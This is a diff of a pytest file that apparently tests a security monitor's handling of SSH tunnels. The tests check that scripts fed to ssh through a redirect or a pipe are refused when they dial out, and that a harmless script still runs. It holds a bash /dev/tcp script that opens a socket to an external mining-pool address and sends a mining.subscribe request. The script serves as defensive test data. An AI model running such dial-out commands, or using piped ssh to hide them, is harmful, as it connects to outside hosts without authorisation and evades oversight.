@@ -41,6 +41,15 @@ except OSError as exc:
 """
 
 
+DIAL_SCRIPT = ("exec 3<>/dev/tcp/203.0.113.33/3333\n"
+               "printf '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n' >&3\n"
+               "head -c 100 <&3\n")
+
+
+def _quick_verdicts(session: Session, rule: str) -> list:
+    return [v for v in session.verdicts if v.rule_id == rule]
+
+
 def _verdicts(session: Session, rule: str, call: str) -> list:
     from tests.conftest import wait_for
 
@@ -168,25 +177,50 @@ def test_a_remote_command_that_dials_the_pool(lab: Lab,
 
 def test_a_script_on_stdin_that_dials_the_pool(lab: Lab,
                                                make_session: Callable[..., Session]) -> None:
-    """``ssh host < dial.sh``: no remote command on the command line; the remote login
-    shell runs the file. A file is read and judged: refused, nothing reaches the pool.
-    Fed through a pipe (``cat dial.sh | ssh host bash``), the script cannot be read:
-    recorded as ``tunnels.ssh_remote_stdin`` (medium) and NOT stopped — a documented
-    limit of judging SSH from outside its encryption."""
+    """``ssh host < dial.sh`` and ``cat dial.sh | ssh host bash``: no remote command on
+    the command line; the remote shell runs what comes on stdin. A file is read; a pipe
+    is copied with tee(2) (ssh still gets every byte). Either way it is the same act as a
+    remote command that dials out, and the same verdict: refused, nothing reaches the
+    pool, no shell comes up, charged to its call."""
     session = make_session(policy(SSH_ALLOWED), lab=True)
     _trusted_key(lab, session)
-    session.write_file("/workspace/dial.sh",
-                       "exec 3<>/dev/tcp/203.0.113.33/3333\n"
-                       "printf '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n' >&3\n"
-                       "head -c 100 <&3\n")
-    pool, sessions = len(lab.pool_bytes()), lab.shell_sessions()
-    session.exec(f"timeout 10 ssh {SSH_OPTS} root@{RELAY} < /workspace/dial.sh; echo rc=$?",
-                 call_id="stdin-file")
-    assert len(lab.pool_bytes()) == pool
-    assert lab.shell_sessions() == sessions
-    found = _verdicts(session, "tunnels.ssh_remote_egress", "stdin-file")
-    assert found and "stdin script: devtcp" in found[0].message
-    session.exec(f"cat /workspace/dial.sh | timeout 10 ssh {SSH_OPTS} root@{RELAY} bash; "
-                 "echo rc=$?", call_id="stdin-pipe")
-    reported = _verdicts(session, "tunnels.ssh_remote_stdin", "stdin-pipe")
+    session.write_file("/workspace/dial.sh", DIAL_SCRIPT)
+    ssh = f"timeout 10 ssh {SSH_OPTS} root@{RELAY}"
+    for call, command in (("stdin-file", f"{ssh} < /workspace/dial.sh"),
+                          ("stdin-pipe", f"cat /workspace/dial.sh | {ssh} bash")):
+        pool, sessions = len(lab.pool_bytes()), lab.shell_sessions()
+        session.exec(f"{command}; echo rc=$?", call_id=call)
+        assert len(lab.pool_bytes()) == pool, call
+        assert lab.shell_sessions() == sessions, call
+        found = _verdicts(session, "tunnels.ssh_remote_egress", call)
+        assert found and "stdin script: devtcp" in found[0].message, call
+        assert found[0].severity.name == "HIGH"
+    assert not _quick_verdicts(session, "tunnels.ssh_remote_stdin")
+
+
+def test_a_script_still_being_written_into_the_pipe(
+        lab: Lab, make_session: Callable[..., Session]) -> None:
+    """A writer that is still writing when ssh connects (``(sleep 3; cat dial.sh) | ssh
+    host bash``): what will come cannot be read yet. Reported at the connect as
+    ``tunnels.ssh_remote_stdin`` (medium), charged to its call — the documented limit;
+    a script already in the pipe is judged (test above)."""
+    session = make_session(policy(SSH_ALLOWED), lab=True)
+    _trusted_key(lab, session)
+    session.write_file("/workspace/dial.sh", DIAL_SCRIPT)
+    session.exec(f"(sleep 3; cat /workspace/dial.sh) | timeout 10 ssh {SSH_OPTS} "
+                 f"root@{RELAY} bash; echo rc=$?", call_id="drip")
+    reported = _verdicts(session, "tunnels.ssh_remote_stdin", "drip")
     assert reported and reported[0].severity.name == "MEDIUM"
+
+
+def test_an_honest_script_through_a_pipe_runs(lab: Lab,
+                                              make_session: Callable[..., Session]) -> None:
+    """The positive control: ``cat setup.sh | ssh host bash`` whose script dials nothing
+    runs on the allowed host, with no tunnel verdict and no report."""
+    session = make_session(policy(SSH_ALLOWED), lab=True)
+    _trusted_key(lab, session)
+    session.write_file("/workspace/setup.sh", "echo PROVISIONED-$((6*7))\nuname -s\n")
+    r = session.exec(f"cat /workspace/setup.sh | timeout 10 ssh {SSH_OPTS} root@{RELAY} bash",
+                     call_id="provision")
+    assert "PROVISIONED-42" in r.stdout, r.stdout + r.stderr
+    assert not [v for v in session.verdicts if v.rule_id.startswith("tunnels.")]
